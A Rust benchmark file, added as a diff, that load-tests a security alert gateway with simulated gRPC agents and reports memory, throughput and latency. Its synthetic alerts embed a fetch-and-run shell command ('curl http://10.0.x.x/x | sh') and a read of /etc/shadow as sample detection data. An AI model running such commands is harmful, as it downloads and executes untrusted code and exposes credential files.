@@ -1,0 +1,519 @@
+//! The agent stream at fleet scale: simulated agents, each on its own TCP connection and
+//! bidirectional gRPC stream over loopback, against the real gateway (`palisade up` as its own
+//! process, acks only after the durable log and the agent's sequence number are flushed), and
+//! against the limit: the same streams into a handler that acks every batch at once and drops
+//! the data (this bench binary re-run as a server process).
+//!
+//! Measured per target: server memory per connected agent (server RSS delta / agents, from
+//! /proc), then two loads: saturating (every agent keeps `WINDOW` batches in flight) for
+//! sustained alerts/s, and paced (every agent sends one batch per second) for send-to-ack
+//! latency at a load below capacity.
+//!
+//!     cargo build --release -p palisade && cargo bench -p palisade-bench --bench agent_stream
+//!     PALISADE_BENCH_AGENTS=200 PALISADE_BENCH_SECONDS=5 cargo bench -p palisade-bench --bench agent_stream
+
+use std::collections::VecDeque;
+use std::io::{BufRead, BufReader};
+use std::pin::Pin;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use anyhow::{Context, bail};
+use palisade_proto::v1::agent_service_client::AgentServiceClient;
+use palisade_proto::v1::agent_service_server::{AgentService, AgentServiceServer};
+use palisade_proto::v1::{
+    AgentHello, AgentKind, Alert, AlertBatch, BatchAck, ConnectRequest, ConnectResponse,
+    ServerHello, connect_request, connect_response,
+};
+use tokio::sync::mpsc;
+use tokio::time::Instant;
+use tokio_stream::wrappers::ReceiverStream;
+use tonic::transport::Channel;
+
+/// Alerts per batch.
+const BATCH: usize = 20;
+/// Batches each agent keeps in flight under saturating load.
+const WINDOW: usize = 2;
+/// Role of a re-run of this binary.
+const ROLE_VARIABLE: &str = "PALISADE_BENCH_ROLE";
+
+fn env_number(name: &str, default: usize) -> usize {
+    std::env::var(name)
+        .ok()
+        .and_then(|value| value.parse().ok())
+        .unwrap_or(default)
+}
+
+fn alert(agent: usize, seq: u64) -> Alert {
+    let rules = [
+        "Terminal shell in container",
+        "Read sensitive file untrusted",
+        "Contact K8S API Server From Container",
+        "Drop and execute new binary in container",
+    ];
+    let rule = rules[(seq as usize) % rules.len()];
+    Alert {
+        rule: rule.into(),
+        source: "syscall".into(),
+        priority: 4,
+        output: format!(
+            "{rule} (user=root command=bash -c 'curl http://10.0.{}.{}/x | sh' container=web-{agent} seq={seq})",
+            agent % 255,
+            seq % 251
+        ),
+        hostname: format!("node-{agent}"),
+        output_fields: [
+            ("proc.name", "bash".to_string()),
+            ("k8s.ns.name", format!("ns-{}", agent % 13)),
+            ("k8s.pod.name", format!("web-{agent}-{:05x}", seq % 4093)),
+            ("container.id", format!("{:012x}", agent * 7919)),
+            ("fd.name", "/etc/shadow".to_string()),
+        ]
+        .into_iter()
+        .map(|(key, value)| (key.to_string(), value))
+        .collect(),
+        tags: vec!["container".into(), "shell".into(), "T1059".into()],
+        time: Some(palisade_proto::prost_types::Timestamp {
+            seconds: 1_795_000_000 + (seq as i64),
+            nanos: i32::try_from(agent).unwrap_or(0),
+        }),
+        ..Alert::default()
+    }
+}
+
+fn batch(agent: usize, first_seq: u64) -> ConnectRequest {
+    ConnectRequest {
+        msg: Some(connect_request::Msg::Batch(AlertBatch {
+            first_seq,
+            alerts: (first_seq..first_seq + BATCH as u64)
+                .map(|seq| alert(agent, seq))
+                .collect(),
+        })),
+    }
+}
+
+/// Resident memory of a process, in KiB.
+fn rss_kib(pid: u32) -> anyhow::Result<u64> {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
+    status
+        .lines()
+        .find_map(|line| line.strip_prefix("VmRSS:"))
+        .and_then(|value| value.trim().trim_end_matches("kB").trim().parse().ok())
+        .context("no VmRSS")
+}
+
+// ---------------------------------------------------------------------------------------------
+// The limit: a server that acks every batch at once and keeps nothing.
+
+struct DropServer;
+
+type ResponseStream =
+    Pin<Box<dyn futures::Stream<Item = Result<ConnectResponse, tonic::Status>> + Send>>;
+
+#[tonic::async_trait]
+impl AgentService for DropServer {
+    type ConnectStream = ResponseStream;
+
+    async fn connect(
+        &self,
+        request: tonic::Request<tonic::Streaming<ConnectRequest>>,
+    ) -> Result<tonic::Response<ResponseStream>, tonic::Status> {
+        let mut inbound = request.into_inner();
+        let (sender, receiver) = mpsc::channel(16);
+        tokio::spawn(async move {
+            while let Ok(Some(message)) = inbound.message().await {
+                let reply = match message.msg {
+                    Some(connect_request::Msg::Hello(_)) => {
+                        connect_response::Msg::Hello(ServerHello {
+                            window: 8,
+                            max_batch_bytes: 4 << 20,
+                            ..ServerHello::default()
+                        })
+                    }
+                    Some(connect_request::Msg::Batch(batch)) => {
+                        connect_response::Msg::Ack(BatchAck {
+                            up_to_seq: batch.first_seq + batch.alerts.len() as u64 - 1,
+                            ..BatchAck::default()
+                        })
+                    }
+                    _ => continue,
+                };
+                let response = ConnectResponse { msg: Some(reply) };
+                if sender.send(Ok(response)).await.is_err() {
+                    return;
+                }
+            }
+        });
+        Ok(tonic::Response::new(Box::pin(ReceiverStream::new(
+            receiver,
+        ))))
+    }
+}
+
+fn run_drop_server() -> anyhow::Result<()> {
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()?;
+    runtime.block_on(async {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
+        println!("{}", listener.local_addr()?);
+        tonic::transport::Server::builder()
+            .add_service(AgentServiceServer::new(DropServer).max_decoding_message_size(16 << 20))
+            .serve_with_incoming(tokio_stream::wrappers::TcpListenerStream::new(listener))
+            .await?;
+        Ok(())
+    })
+}
+
+// ---------------------------------------------------------------------------------------------
+// Targets as processes.
+
+struct Target {
+    name: &'static str,
+    child: Child,
+    url: String,
+    token: String,
+}
+
+impl Drop for Target {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn first_line(child: &mut Child) -> anyhow::Result<String> {
+    let stdout = child.stdout.take().context("stdout")?;
+    let mut reader = BufReader::new(stdout);
+    let mut line = String::new();
+    reader.read_line(&mut line)?;
+    // keep draining so the child never blocks on a full pipe
+    std::thread::spawn(move || for _ in reader.lines() {});
+    Ok(line.trim().to_string())
+}
+
+fn start_gateway(directory: &std::path::Path) -> anyhow::Result<Target> {
+    let config = directory.join("palisade.toml");
+    // one tenant sends for the whole fleet here: its rate limit is lifted to measure capacity;
+    // the simulated agents send no heartbeats, so the interval is long enough for idle phases
+    std::fs::write(
+        &config,
+        "[agents]\nheartbeat_seconds = 60\ntenant_alerts_per_second = 100000000\ntenant_alert_burst = 100000000\n",
+    )?;
+    let data_dir = directory.join("data");
+    let mut child = Command::new(palisade_testkit::palisade_binary())
+        .args([
+            "up",
+            "--grpc-listen",
+            "127.0.0.1:0",
+            "--http-listen",
+            "127.0.0.1:0",
+        ])
+        .arg("--data-dir")
+        .arg(&data_dir)
+        .arg("--config")
+        .arg(&config)
+        .env("PALISADE_LOG_LEVEL", "warn")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .context("palisade up (cargo build --release -p palisade first)")?;
+    let ready: serde_json::Value = serde_json::from_str(&first_line(&mut child)?)?;
+    eprintln!("palisade up ready: {ready}");
+    let grpc = ready["grpc"].as_str().context("grpc address")?;
+    let token = std::fs::read_to_string(data_dir.join("admin.token"))?
+        .trim()
+        .to_string();
+    Ok(Target {
+        name: "palisade gateway (durable log)",
+        url: format!("http://{grpc}"),
+        child,
+        token,
+    })
+}
+
+fn start_drop_server() -> anyhow::Result<Target> {
+    let mut child = Command::new(std::env::current_exe()?)
+        .env(ROLE_VARIABLE, "drop-server")
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .spawn()?;
+    let address = first_line(&mut child)?;
+    Ok(Target {
+        name: "drop handler (limit)",
+        url: format!("http://{address}"),
+        child,
+        token: "unused".into(),
+    })
+}
+
+// ---------------------------------------------------------------------------------------------
+// Simulated agents.
+
+struct Agent {
+    index: usize,
+    outbound: mpsc::Sender<ConnectRequest>,
+    inbound: tonic::Streaming<ConnectResponse>,
+    next_seq: u64,
+}
+
+async fn connect_agent(url: &str, token: &str, index: usize) -> anyhow::Result<Agent> {
+    let channel: Channel = tonic::transport::Endpoint::from_shared(url.to_string())?
+        .tcp_nodelay(true)
+        .connect()
+        .await?;
+    let header: tonic::metadata::MetadataValue<_> = format!("Bearer {token}").parse()?;
+    let mut client =
+        AgentServiceClient::with_interceptor(channel, move |mut request: tonic::Request<()>| {
+            request
+                .metadata_mut()
+                .insert("authorization", header.clone());
+            Ok(request)
+        });
+    let (outbound, receiver) = mpsc::channel(WINDOW + 2);
+    outbound
+        .send(ConnectRequest {
+            msg: Some(connect_request::Msg::Hello(AgentHello {
+                agent_id: format!("bench/{index}"),
+                kind: AgentKind::Node as i32,
+                capabilities: vec!["alerts".into(), "heartbeat".into()],
+                ..AgentHello::default()
+            })),
+        })
+        .await?;
+    let mut inbound = client
+        .connect(ReceiverStream::new(receiver))
+        .await?
+        .into_inner();
+    let resume = match inbound.message().await?.and_then(|message| message.msg) {
+        Some(connect_response::Msg::Hello(hello)) => hello.resume_after_seq,
+        other => bail!("agent {index}: expected ServerHello, got {other:?}"),
+    };
+    Ok(Agent {
+        index,
+        outbound,
+        inbound,
+        next_seq: resume + 1,
+    })
+}
+
+/// What one agent's load run measured.
+#[derive(Default)]
+struct AgentRun {
+    acked_alerts: u64,
+    latencies_us: Vec<u32>,
+}
+
+/// Sends for `duration`: with `pace`, one batch per pace; without, `WINDOW` batches in flight.
+async fn load(
+    mut agent: Agent,
+    duration: Duration,
+    pace: Option<Duration>,
+) -> anyhow::Result<(Agent, AgentRun)> {
+    let mut run = AgentRun::default();
+    let deadline = Instant::now() + duration;
+    let mut in_flight: VecDeque<(u64, Instant)> = VecDeque::new();
+    // spread paced agents over the interval so they do not send in step
+    let mut next_send = Instant::now()
+        + pace.map_or(Duration::ZERO, |pace| {
+            pace.mul_f64((agent.index % 997) as f64 / 997.0)
+        });
+    loop {
+        let now = Instant::now();
+        let sending = now < deadline;
+        let may_send = match pace {
+            Some(_) => in_flight.is_empty() && now >= next_send,
+            None => in_flight.len() < WINDOW,
+        };
+        if sending && may_send {
+            let first = agent.next_seq;
+            agent.outbound.send(batch(agent.index, first)).await?;
+            agent.next_seq += BATCH as u64;
+            in_flight.push_back((agent.next_seq - 1, Instant::now()));
+            if let Some(pace) = pace {
+                next_send += pace;
+            }
+            continue;
+        }
+        if !sending && in_flight.is_empty() {
+            return Ok((agent, run));
+        }
+        let message = if in_flight.is_empty() {
+            tokio::time::sleep_until(next_send.min(deadline)).await;
+            continue;
+        } else {
+            agent.inbound.message().await?
+        };
+        if let Some(connect_response::Msg::Ack(ack)) = message.and_then(|message| message.msg) {
+            let acked_at = Instant::now();
+            while let Some(&(last, sent)) = in_flight.front() {
+                if last > ack.up_to_seq {
+                    break;
+                }
+                in_flight.pop_front();
+                run.acked_alerts += BATCH as u64;
+                run.latencies_us
+                    .push(u32::try_from((acked_at - sent).as_micros()).unwrap_or(u32::MAX));
+            }
+        }
+    }
+}
+
+struct LoadResult {
+    alerts_per_second: f64,
+    p50_ms: f64,
+    p99_ms: f64,
+    batches: usize,
+}
+
+async fn run_load(
+    agents: Vec<Agent>,
+    duration: Duration,
+    pace: Option<Duration>,
+) -> anyhow::Result<(Vec<Agent>, LoadResult)> {
+    let started = Instant::now();
+    let tasks: Vec<_> = agents
+        .into_iter()
+        .map(|agent| tokio::spawn(load(agent, duration, pace)))
+        .collect();
+    let mut agents = Vec::new();
+    let mut acked = 0u64;
+    let mut latencies = Vec::new();
+    for task in tasks {
+        let (agent, run) = task.await??;
+        acked += run.acked_alerts;
+        latencies.extend(run.latencies_us);
+        agents.push(agent);
+    }
+    let elapsed = started.elapsed().as_secs_f64();
+    latencies.sort_unstable();
+    let percentile = |fraction: f64| {
+        latencies
+            .get(((latencies.len() as f64 - 1.0) * fraction).round() as usize)
+            .map_or(0.0, |micros| f64::from(*micros) / 1000.0)
+    };
+    Ok((
+        agents,
+        LoadResult {
+            alerts_per_second: acked as f64 / elapsed,
+            p50_ms: percentile(0.50),
+            p99_ms: percentile(0.99),
+            batches: latencies.len(),
+        },
+    ))
+}
+
+struct TargetResult {
+    name: &'static str,
+    rss_before_kib: u64,
+    rss_connected_kib: u64,
+    per_agent_kib: f64,
+    connect_seconds: f64,
+    saturating: LoadResult,
+    paced: LoadResult,
+}
+
+async fn measure(
+    target: &Target,
+    agent_count: usize,
+    seconds: u64,
+) -> anyhow::Result<TargetResult> {
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    let pid = target.child.id();
+    let rss_before_kib = rss_kib(pid)?;
+    let started = Instant::now();
+    let mut agents = Vec::with_capacity(agent_count);
+    // 50 connection attempts at a time, like a fleet coming up
+    for chunk in (0..agent_count).collect::<Vec<_>>().chunks(50) {
+        let connecting: Vec<_> = chunk
+            .iter()
+            .map(|&index| {
+                let url = target.url.clone();
+                let token = target.token.clone();
+                tokio::spawn(async move { connect_agent(&url, &token, index).await })
+            })
+            .collect();
+        for task in connecting {
+            agents.push(task.await??);
+        }
+    }
+    let connect_seconds = started.elapsed().as_secs_f64();
+    eprintln!(
+        "{}: {agent_count} agents connected in {connect_seconds:.1} s",
+        target.name
+    );
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let rss_connected_kib = rss_kib(pid)?;
+    let duration = Duration::from_secs(seconds);
+    let (agents, saturating) = run_load(agents, duration, None).await?;
+    eprintln!("{}: saturating load done", target.name);
+    let (agents, paced) = run_load(agents, duration, Some(Duration::from_secs(1))).await?;
+    eprintln!("{}: paced load done", target.name);
+    drop(agents);
+    Ok(TargetResult {
+        name: target.name,
+        rss_before_kib,
+        rss_connected_kib,
+        per_agent_kib: rss_connected_kib.saturating_sub(rss_before_kib) as f64 / agent_count as f64,
+        connect_seconds,
+        saturating,
+        paced,
+    })
+}
+
+fn main() -> anyhow::Result<()> {
+    if std::env::var(ROLE_VARIABLE).as_deref() == Ok("drop-server") {
+        return run_drop_server();
+    }
+    let agent_count = env_number("PALISADE_BENCH_AGENTS", 1_000);
+    let seconds = env_number("PALISADE_BENCH_SECONDS", 15) as u64;
+    let runtime = tokio::runtime::Builder::new_multi_thread()
+        .worker_threads(2)
+        .enable_all()
+        .build()?;
+    let temp = tempfile::tempdir()?;
+    let results = runtime.block_on(async {
+        let gateway = start_gateway(temp.path())?;
+        let real = measure(&gateway, agent_count, seconds).await?;
+        drop(gateway);
+        let drop_server = start_drop_server()?;
+        let limit = measure(&drop_server, agent_count, seconds).await?;
+        Ok::<_, anyhow::Error>([real, limit])
+    })?;
+    println!(
+        "agent stream: {agent_count} agents, each its own TCP connection and stream; batches of {BATCH} alerts; {seconds} s per load; saturating = {WINDOW} batches in flight per agent, paced = 1 batch per agent per second"
+    );
+    println!(
+        "| target | connect all | server RSS idle -> connected | per agent | saturating alerts/s | saturating p50 / p99 ack | paced alerts/s | paced p50 / p99 ack |"
+    );
+    println!("| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |");
+    for result in &results {
+        println!(
+            "| {} | {:.1} s | {:.1} -> {:.1} MiB | {:.1} KiB | {:.0} | {:.1} / {:.1} ms | {:.0} | {:.1} / {:.1} ms |",
+            result.name,
+            result.connect_seconds,
+            result.rss_before_kib as f64 / 1024.0,
+            result.rss_connected_kib as f64 / 1024.0,
+            result.per_agent_kib,
+            result.saturating.alerts_per_second,
+            result.saturating.p50_ms,
+            result.saturating.p99_ms,
+            result.paced.alerts_per_second,
+            result.paced.p50_ms,
+            result.paced.p99_ms,
+        );
+    }
+    let [real, limit] = &results;
+    println!(
+        "ratios (gateway / limit): saturating alerts/s {:.2}, paced p99 {:.1}x, memory per agent {:.2}x; batches measured: gateway {} + {}, limit {} + {}",
+        real.saturating.alerts_per_second / limit.saturating.alerts_per_second,
+        real.paced.p99_ms / limit.paced.p99_ms.max(0.001),
+        real.per_agent_kib / limit.per_agent_kib.max(0.001),
+        real.saturating.batches,
+        real.paced.batches,
+        limit.saturating.batches,
+        limit.paced.batches,
+    );
+    Ok(())
+}
